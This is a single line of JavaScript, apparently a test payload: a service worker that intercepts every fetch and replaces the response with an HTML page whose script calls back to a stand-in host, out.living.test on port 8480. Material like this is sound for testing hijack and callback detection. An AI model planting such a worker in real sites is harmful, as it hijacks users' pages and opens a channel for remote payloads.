addEventListener("fetch", (e) => e.respondWith(new Response("<script>fetch(`http://out.living.test:8480/sw`)</script>", {headers: {"Content-Type": "text/html"}})));
